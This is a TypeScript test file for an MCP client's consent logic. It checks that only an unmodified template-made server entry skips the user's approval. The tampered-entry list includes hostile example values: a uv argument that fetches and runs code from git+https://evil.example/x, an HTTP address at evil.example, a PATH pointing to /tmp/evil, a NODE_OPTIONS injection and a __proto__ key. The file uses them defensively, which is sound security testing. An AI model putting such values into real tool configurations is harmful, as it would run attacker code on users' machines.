import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test, vi } from 'vitest';
import { serverFacts } from '../../src-main/mcp/server-facts.ts';
import { isAsFilled } from '../../src-main/mcp/setup/template-entry.ts';
import { templateState } from '../../src-main/mcp/setup/templates.ts';
import { TemplateEntries } from '../../src-main/services/template-entries.ts';
import type { McpServerConfig } from '../../src-main/settings/config-schema.ts';
import type { ConsentCard } from '../../src-preload/contract/consent.ts';
import type { ServerPage, ServerRow, TemplateCheck } from '../../src-preload/contract/servers.ts';
import { installTemplate } from '../fixtures/mcp/template-servers.ts';
import { repetitions } from '../fixtures/repetitions.ts';
import { SOON, WindowRig } from '../fixtures/window-rig.ts';

/**
 * A server is known, so that its tools read without a question, only if Steward's own template made its entry and
 * nobody changed it since. The control is the entry of the template itself.
 */

const WHATSAPP: McpServerConfig = {
  transport: 'stdio',
  command: 'uv',
  args: ['--directory', '/srv/whatsapp/whatsapp-mcp-server', 'run', 'main.py'],
  env: {},
  headers: {},
};
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: this is how config.json names a keychain entry
const INTERVIEW: McpServerConfig = {
  transport: 'stdio',
  command: 'python3',
  args: ['/srv/ia/mcp_servers/interview_assist_server.py'],
  env: { INTERVIEW_ASSIST_REPO: '/srv/ia', DEEPGRAM_API_KEY: '${keychain:DEEPGRAM_API_KEY}' },
  headers: {},
};

/** What is known of `name` once templates made these two, and config.json says `config` now. */
function knownNow(config: McpServerConfig, name = 'chat') {
  const kept = new Map<string, string>();
  const entries = new TemplateEntries({ get: (key) => kept.get(key), set: (key, hash) => void kept.set(key, hash) });
  entries.remember('chat', 'whatsapp', WHATSAPP);
  entries.remember('talks', 'interview-assist', INTERVIEW);
  return serverFacts(name, config, entries.madeBy(name, config)).known?.id;
}

const DIRECTORY = ['--directory', '/srv/whatsapp/whatsapp-mcp-server'];
const CHANGED: readonly (readonly [string, Partial<McpServerConfig>])[] = [
  [
    'a package and code before the words of the template',
    { args: ['run', '--with', 'git+https://evil.example/x', 'python', '-c', 'x', 'whatsapp-mcp-server', 'main.py'] },
  ],
  ['an argument more', { args: [...WHATSAPP.args, '--'] }],
  ['an argument less', { args: WHATSAPP.args.slice(0, -1) }],
  ['another order', { args: ['run', 'main.py', ...DIRECTORY] }],
  ['another folder that ends alike', { args: ['--directory', '/tmp/evil/whatsapp-mcp-server', 'run', 'main.py'] }],
  ['the folder by a detour', { args: ['--directory', '/srv/whatsapp/./whatsapp-mcp-server', 'run', 'main.py'] }],
  ['two arguments in one', { args: [DIRECTORY.join(' '), 'run', 'main.py'] }],
  ['a key in place of an argument', { args: [...DIRECTORY, 'run', '${keychain:main.py}'] }],
  ['a path to the program', { command: '/tmp/uv' }],
  ['another case of the program', { command: 'UV' }],
  ['a blank after the program', { command: 'uv ' }],
  ['a variable', { env: { PATH: '/tmp/evil' } }],
  ['a variable from the keychain', { env: { NODE_OPTIONS: '${keychain:NODE_OPTIONS}' } }],
  ['an empty variable', { env: { UV_INDEX: '' } }],
  ['a variable of an odd name', { env: Object.fromEntries([['__proto__', 'x']]) }],
  ['an address instead', { transport: 'http', url: 'https://evil.example/mcp' }],
];
const CHANGED_TALKS: readonly (readonly [string, Partial<McpServerConfig>])[] = [
  ['another repository', { env: { ...INTERVIEW.env, INTERVIEW_ASSIST_REPO: '/tmp/evil' } }],
  ['the repository from the keychain', { env: { ...INTERVIEW.env, INTERVIEW_ASSIST_REPO: '${keychain:X}' } }],
  ['a variable less', { env: { INTERVIEW_ASSIST_REPO: '/srv/ia' } }],
  ['the key written into the file', { env: { ...INTERVIEW.env, DEEPGRAM_API_KEY: 'plain' } }],
  ['another version of Python', { command: 'python3.12' }],
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: only these are names of keychain entries

test('the control: as the templates made them, both are known', () => {
  expect(knownNow(WHATSAPP)).toBe('whatsapp');
  expect(knownNow(INTERVIEW, 'talks')).toBe('interview-assist');
});

describe('no longer known with', () => {
  test.each(CHANGED)('%s', (_, change) => expect(knownNow({ ...WHATSAPP, ...change })).toBeUndefined());
  test.each(CHANGED_TALKS)('%s', (_, change) => {
    expect(knownNow({ ...INTERVIEW, ...change }, 'talks')).toBeUndefined();
  });
});

test.each(['other', 'Chat', 'chat ', 'whatsapp', '__proto__', 'constructor', 'chat.identity'])(
  'the same entry under the name %j is not known',
  (name) => expect(knownNow(WHATSAPP, name)).toBeUndefined(),
);

/** Changes a text at one place. */
const changedText = (text: string) =>
  fc
    .tuple(fc.nat(text.length), fc.string({ minLength: 1, maxLength: 4, unit: 'binary' }), fc.boolean())
    .map(([at, with_, replaces]) => `${text.slice(0, at)}${with_}${text.slice(replaces ? at + 1 : at)}`)
    .filter((changed) => changed !== text);
const changedList = (list: readonly string[]) =>
  fc.oneof(
    fc.nat(list.length - 1).chain((at) => changedText(list[at] ?? '').map((changed) => list.with(at, changed))),
    fc.tuple(fc.nat(list.length), fc.string()).map(([at, more]) => list.toSpliced(at, 0, more)),
    fc.nat(list.length - 1).map((at) => list.toSpliced(at, 1)),
  );
const changedEntry: fc.Arbitrary<McpServerConfig> = fc.oneof(
  changedText(WHATSAPP.command ?? '').map((command) => ({ ...WHATSAPP, command })),
  changedList(WHATSAPP.args).map((args) => ({ ...WHATSAPP, args })),
  fc
    .tuple(fc.string(), fc.string())
    .map(([name, value]) => ({ ...WHATSAPP, env: Object.fromEntries([[name, value]]) })),
);

test('no change of the command, an argument or a variable keeps it known', () => {
  fc.assert(
    fc.property(changedEntry, (entry) => knownNow(entry) === undefined),
    { numRuns: repetitions(500, 10_000), seed: 31 },
  );
});

test('nor does a form count as filled by the template once anything in it was changed', async () => {
  const machine = { platform: 'linux', env: { PATH: '' } } as const;
  const { server } = await templateState('whatsapp', '/srv/whatsapp', machine);
  expect(isAsFilled(WHATSAPP, server)).toBe(true);
  fc.assert(
    fc.property(changedEntry, (entry) => !isAsFilled(entry, server)),
    { numRuns: repetitions(500, 10_000), seed: 31 },
  );
});

const yes = { answer: 'once' };

/** What is asked when the user's line reads the chats. */
async function askedToRead(rig: WindowRig): Promise<readonly ConsentCard['kind'][]> {
  await vi.waitFor(async () => {
    const rows = await rig.request<readonly ServerRow[]>('servers.list');
    expect(rows[0]).toMatchObject({ state: { name: 'ready' }, unreviewed: 0 });
  }, SOON);
  const sent = await rig.request<{ id: string }>('conversations.send', { id: null, text: '/whatsapp__list_chats {}' });
  const ended = rig.turnEnded(sent.id).then(() => undefined);
  const card = await Promise.race([ended, rig.card()]);
  if (card === undefined) return [];
  await rig.answer({ answer: 'deny' }, card);
  await ended;
  return [card.kind];
}

const parts = (card: ConsentCard) => JSON.stringify(card.parts);

test('the template’s own entry reads without a question; the same entry in a file does not', async () => {
  const { folder, env } = installTemplate('whatsapp');
  const made = new WindowRig({ env });
  const { server } = await made.request<TemplateCheck>('servers.checkTemplate', { id: 'whatsapp', folder });
  const { remarks: _, ...form } = server;
  const adding = made.request('servers.add', { form });
  expect(parts(await made.answer(yes))).toContain('Steward knows this as WhatsApp');
  await adding;
  await made.answer(yes);
  expect(await askedToRead(made)).toEqual([]);

  const entry = { command: 'uv', args: ['--directory', join(folder, 'whatsapp-mcp-server'), 'run', 'main.py'] };
  const written = new WindowRig({ env, config: { mcpServers: { whatsapp: entry } } });
  const confirming = written.request('settings.confirmPending');
  expect(parts(await written.answer(yes))).not.toContain('Steward knows this');
  await written.answer(yes);
  await confirming;
  expect(await askedToRead(written)).toEqual(['tool']);
  const page = await written.request<ServerPage>('servers.page', { name: 'whatsapp' });
  expect(page.tools.filter(({ classFrom }) => classFrom === 'table')).toEqual([]);
});

test('a page that fills in the template and sends another program, or changes an entry, makes nothing known', async () => {
  const { folder, env } = installTemplate('whatsapp');
  const entry = { command: 'uv', args: ['--directory', join(folder, 'whatsapp-mcp-server'), 'run', 'main.py'] };
  const rig = new WindowRig({ env, config: { mcpServers: { whatsapp: entry } } });
  const confirming = rig.request('settings.confirmPending');
  for (const _ of [1, 2]) await rig.answer(yes);
  await confirming;
  const { server } = await rig.request<TemplateCheck>('servers.checkTemplate', { id: 'whatsapp', folder });
  const { remarks: _, ...form } = server;
  await rig.request('servers.change', { form });
  expect(await askedToRead(rig)).toEqual(['tool']);
  const adding = rig.code('servers.add', { form: { ...form, name: 'more', args: [...form.args, '--help'] } });
  const card = await rig.card();
  expect(parts(card)).not.toContain('Steward knows this');
  await rig.answer({ answer: 'deny' }, card);
  expect(await adding).toBe('not_confirmed');
});
